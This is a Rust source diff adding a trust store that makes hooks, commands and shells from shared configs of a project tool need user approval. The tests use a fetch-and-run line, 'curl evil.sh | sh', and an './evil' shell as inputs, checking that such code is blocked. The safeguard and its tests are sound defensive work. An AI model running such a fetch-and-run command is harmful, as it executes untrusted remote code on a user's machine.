@@ -0,0 +1,318 @@
+use crate::config::path::fw_path;
+use crate::config::{self, project::Project, settings::Settings, Config};
+use crate::errors::AppError;
+use crate::output::{self, Tone};
+use crate::util::sha256_hex;
+use serde::{Deserialize, Serialize};
+use slog::{debug, warn, Logger};
+use std::collections::{BTreeMap, BTreeSet};
+use std::fs;
+use std::io::{self, BufRead, Write};
+use std::path::{Path, PathBuf};
+
+/// Projects whose hooks come from a config the user did not write, and the hooks the user approved.
+#[derive(Debug, Default, Serialize, Deserialize)]
+pub struct TrustStore {
+  /// Project name and the shared config its definition was taken from.
+  untrusted: BTreeMap<String, String>,
+  /// SHA-256 of project name, shell and code for every approved hook or command, so that a change to either has to be
+  /// approved again.
+  approved: BTreeSet<String>,
+}
+
+/// Code of an untrusted project or config and the shell it runs in.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Approval {
+  pub kind: String,
+  /// The project, or the config file for the settings of a discovered `.fw.json`.
+  pub subject: String,
+  pub shell: Vec<String>,
+  /// Empty for the shell itself, which runs the commands typed for `fw foreach`.
+  pub code: String,
+}
+
+impl Approval {
+  fn hash(&self) -> String {
+    sha256_hex(format!("{}\0{}\0{}", self.subject, self.shell.join("\u{1f}"), self.code).as_bytes())
+  }
+}
+
+impl TrustStore {
+  /// Where the hooks of the project come from if the user did not write them.
+  pub fn source_of(&self, config: &Config, project_name: &str) -> Option<String> {
+    config.settings.untrusted_source.clone().or_else(|| self.untrusted.get(project_name).cloned())
+  }
+
+  /// Whether the code may run: it is the user's own or was approved. Settings are untrusted only in a discovered config.
+  pub fn allows(&self, config: &Config, approval: &Approval) -> bool {
+    let untrusted = if config.projects.contains_key(&approval.subject) {
+      self.source_of(config, &approval.subject).is_some()
+    } else {
+      config.settings.untrusted_source.is_some()
+    };
+    !untrusted || self.approved.contains(&approval.hash())
+  }
+
+  fn approve(&mut self, approval: &Approval) {
+    self.approved.insert(approval.hash());
+  }
+}
+
+// The built-in shell, and the one of the settings unless they are someone else's, run the commands a user types.
+fn trusted_shell(config: &Config) -> Vec<String> {
+  match config.settings.untrusted_source {
+    Some(_) => Settings::default_shell(),
+    None => config.settings.get_shell_or_default(),
+  }
+}
+
+/// The code of `project` that needs approval if the project is untrusted: its hooks and named commands with the shell
+/// they run in, and that shell itself unless it is a trusted one.
+pub fn approvals(config: &Config, project: &Project, logger: &Logger) -> Vec<Approval> {
+  let shell = config.resolve_shell(project, logger);
+  let approval = |kind: String, code: String| Approval {
+    kind,
+    subject: project.name.clone(),
+    shell: shell.clone(),
+    code,
+  };
+  let mut approvals = vec![
+    approval("after_clone".to_owned(), config.resolve_after_clone(logger, project).join(" && ")),
+    approval("after_workon".to_owned(), config.resolve_after_workon(logger, project).join(" && ")),
+  ];
+  approvals.retain(|a| !a.code.is_empty());
+  for (name, command) in config.resolve_commands(project, logger) {
+    approvals.push(approval(format!("command {}", name), command));
+  }
+  if shell != trusted_shell(config) {
+    approvals.push(approval("shell".to_owned(), String::new()));
+  }
+  approvals
+}
+
+/// The `notify_command` of a discovered config, which runs in the shell of that config.
+pub fn notify_approval(settings: &Settings) -> Option<Approval> {
+  Some(Approval {
+    kind: "notify_command".to_owned(),
+    subject: settings.untrusted_source.clone()?,
+    shell: settings.get_shell_or_default(),
+    code: settings.notify_command.clone()?,
+  })
+}
+
+fn store_file() -> Result<PathBuf, AppError> {
+  Ok(fw_path()?.state.join("trust.json"))
+}
+
+fn read_store_from(path: &Path, logger: &Logger) -> TrustStore {
+  match fs::read_to_string(path) {
+    Ok(raw) => serde_json::from_str(&raw).unwrap_or_else(|e| {
+      warn!(logger, "Ignoring unreadable trust store, hooks of untrusted projects need approval again"; "path" => path.to_string_lossy().to_string(), "error" => format!("{}", e));
+      TrustStore::default()
+    }),
+    Err(_) => TrustStore::default(),
+  }
+}
+
+fn write_store_to(path: &Path, store: &TrustStore) -> Result<(), AppError> {
+  if let Some(parent) = path.parent() {
+    fs::create_dir_all(parent)?;
+  }
+  config::write_atomically(path, &serde_json::to_string(store)?)
+}
+
+pub fn read_store(logger: &Logger) -> Result<TrustStore, AppError> {
+  Ok(read_store_from(&store_file()?, logger))
+}
+
+/// Remembers that the definition of `project_name` was taken from `source`, so its hooks need approval before they run.
+pub fn mark_untrusted(project_name: &str, source: &str, logger: &Logger) -> Result<(), AppError> {
+  let path = store_file()?;
+  let mut store = read_store_from(&path, logger);
+  store.untrusted.insert(project_name.to_owned(), source.to_owned());
+  write_store_to(&path, &store)?;
+  debug!(logger, "Marked project as untrusted"; "project" => project_name, "source" => source);
+  Ok(())
+}
+
+fn read_store_or_default(logger: &Logger) -> TrustStore {
+  read_store(logger).unwrap_or_else(|e| {
+    warn!(logger, "Could not read trust store"; "error" => format!("{}", e));
+    TrustStore::default()
+  })
+}
+
+fn allows_logged(config: &Config, approval: &Approval, project_name: &str, logger: &Logger) -> bool {
+  let store = read_store_or_default(logger);
+  let allowed = store.allows(config, approval);
+  if !allowed {
+    warn!(
+      logger,
+      "Skipping {}, it comes from {} and was not approved, review it with fw trust {}",
+      approval.kind,
+      store.source_of(config, project_name).unwrap_or_default(),
+      project_name
+    );
+  }
+  allowed
+}
+
+/// Whether the `kind` hook of `project` may run in the project's shell. Hooks of untrusted projects are skipped with a
+/// warning until `fw trust` approved them.
+pub fn allows_hook(config: &Config, project: &Project, kind: &str, hook: &str, logger: &Logger) -> bool {
+  let approval = Approval {
+    kind: kind.to_owned(),
+    subject: project.name.clone(),
+    shell: config.resolve_shell(project, logger),
+    code: hook.to_owned(),
+  };
+  allows_logged(config, &approval, &project.name, logger)
+}
+
+/// Whether commands the user typed, like those of `fw foreach`, may run in the shell of `project`.
+pub fn allows_shell(config: &Config, project: &Project, logger: &Logger) -> bool {
+  let shell = config.resolve_shell(project, logger);
+  if shell == trusted_shell(config) {
+    return true;
+  }
+  let approval = Approval {
+    kind: "shell".to_owned(),
+    subject: project.name.clone(),
+    shell,
+    code: String::new(),
+  };
+  allows_logged(config, &approval, &project.name, logger)
+}
+
+/// Whether the `notify_command` of the settings may run, the one of a discovered config needs approval.
+pub fn allows_notify_command(settings: &Settings, logger: &Logger) -> bool {
+  match notify_approval(settings) {
+    Some(approval) if !read_store_or_default(logger).approved.contains(&approval.hash()) => {
+      warn!(
+        logger,
+        "Skipping notify_command, it comes from {} and was not approved, review it with fw trust", approval.subject
+      );
+      false
+    }
+    _ => true,
+  }
+}
+
+/// `hooks` as resolved for `project`, or none of them if they may not run.
+pub fn approved_hooks(config: &Config, project: &Project, kind: &str, hooks: Vec<String>, logger: &Logger) -> Vec<String> {
+  if hooks.is_empty() || allows_hook(config, project, kind, &hooks.join(" && "), logger) {
+    hooks
+  } else {
+    vec![]
+  }
+}
+
+fn confirm(question: &str) -> Result<bool, AppError> {
+  if !output::can_prompt() {
+    return Err(AppError::UserError("Approving hooks needs a terminal".to_owned()));
+  }
+  eprint!("{} [y/N] ", question);
+  io::stderr().flush()?;
+  let mut answer = String::new();
+  io::stdin().lock().read_line(&mut answer)?;
+  Ok(matches!(answer.trim(), "y" | "Y" | "yes"))
+}
+
+/// Shows the hooks of an untrusted project that were not approved yet and asks to approve them.
+pub fn trust(maybe_config: Result<Config, AppError>, project_name: &str, logger: &Logger) -> Result<(), AppError> {
+  let config = maybe_config?;
+  let project = config
+    .projects
+    .get(project_name)
+    .ok_or_else(|| AppError::UserError(format!("project {} not found", project_name)))?;
+  let path = store_file()?;
+  let mut store = read_store_from(&path, logger);
+  let source = match store.source_of(&config, project_name) {
+    Some(source) => source,
+    None => {
+      println!("{} is defined in your own config, its hooks run without approval", project_name);
+      return Ok(());
+    }
+  };
+  let mut pending: Vec<Approval> = approvals(&config, project, logger);
+  pending.extend(notify_approval(&config.settings));
+  pending.retain(|approval| !store.allows(&config, approval));
+  if pending.is_empty() {
+    println!("All hooks of {} are approved", project_name);
+    return Ok(());
+  }
+
+  println!("{}", Tone::Heading.paint(&format!("{} from {}", project_name, source)));
+  for approval in &pending {
+    let code = if approval.code.is_empty() { "(runs fw foreach)" } else { &approval.code };
+    println!("{:<20}: {}", approval.kind, Tone::Warning.paint(code));
+    println!("{:<20}  {}", "", Tone::Muted.paint(&format!("in {}", approval.shell.join(" "))));
+  }
+  if !confirm(&format!("Allow these hooks of {} to run?", project_name))? {
+    return Err(AppError::UserError(format!("Hooks of {} not approved", project_name)));
+  }
+  for approval in &pending {
+    store.approve(approval);
+  }
+  write_store_to(&path, &store)?;
+  println!("Approved, the hooks of {} need approval again when they or their shell change", project_name);
+  Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+  use super::*;
+  use spectral::prelude::*;
+
+  fn an_approval(subject: &str, shell: &str, code: &str) -> Approval {
+    Approval {
+      kind: "after_clone hook".to_owned(),
+      subject: subject.to_owned(),
+      shell: vec![shell.to_owned(), "-c".to_owned()],
+      code: code.to_owned(),
+    }
+  }
+
+  #[test]
+  fn test_changed_hooks_need_approval_again() {
+    let mut config: Config =
+      serde_json::from_str(r#"{"projects": {"api": {"git": "x"}, "web": {"git": "y"}}, "settings": {"workspace": "~/workspace"}}"#).unwrap();
+    let mut store = TrustStore::default();
+    assert_that(&store.allows(&config, &an_approval("api", "sh", "curl evil.sh | sh"))).is_true();
+
+    store.untrusted.insert("api".to_owned(), "git@github.com:team/fw-config.git".to_owned());
+    assert_that(&store.allows(&config, &an_approval("api", "sh", "make setup"))).is_false();
+    store.approve(&an_approval("api", "sh", "make setup"));
+    assert_that(&store.allows(&config, &an_approval("api", "sh", "make setup"))).is_true();
+    assert_that(&store.allows(&config, &an_approval("api", "sh", "make setup && curl evil.sh | sh"))).is_false();
+    assert_that(&store.allows(&config, &an_approval("web", "sh", "make setup"))).is_true();
+
+    config.settings.untrusted_source = Some("/src/team/.fw.json".to_owned());
+    assert_that(&store.allows(&config, &an_approval("web", "sh", "make setup"))).is_false();
+  }
+
+  #[test]
+  fn test_changed_shell_needs_approval_again() {
+    let config: Config = serde_json::from_str(r#"{"projects": {"api": {"git": "x"}}, "settings": {"workspace": "~/workspace"}}"#).unwrap();
+    let mut store = TrustStore::default();
+    store.untrusted.insert("api".to_owned(), "git@github.com:team/fw-config.git".to_owned());
+    store.approve(&an_approval("api", "sh", "make setup"));
+    assert_that(&store.allows(&config, &an_approval("api", "./evil", "make setup"))).is_false();
+  }
+
+  #[test]
+  fn test_approvals_cover_commands_and_shell() {
+    let mut config: Config = serde_json::from_str(
+      r#"{"projects": {"api": {"git": "x", "shell": ["bash", "-c"], "commands": {"test": "make test"}}}, "settings": {"workspace": "~/workspace"}}"#,
+    )
+    .unwrap();
+    let logger = Logger::root(slog::Discard, slog::o!());
+    let kinds: Vec<String> = approvals(&config, &config.projects["api"], &logger).into_iter().map(|a| a.kind).collect();
+    assert_that(&kinds).is_equal_to(vec!["command test".to_owned(), "shell".to_owned()]);
+
+    config.settings.notify_command = Some("curl ntfy.sh".to_owned());
+    assert_that(&notify_approval(&config.settings)).is_none();
+    config.settings.untrusted_source = Some("/src/team/.fw.json".to_owned());
+    assert_that(&notify_approval(&config.settings).map(|a| a.subject)).is_equal_to(Some("/src/team/.fw.json".to_owned()));
+  }
+}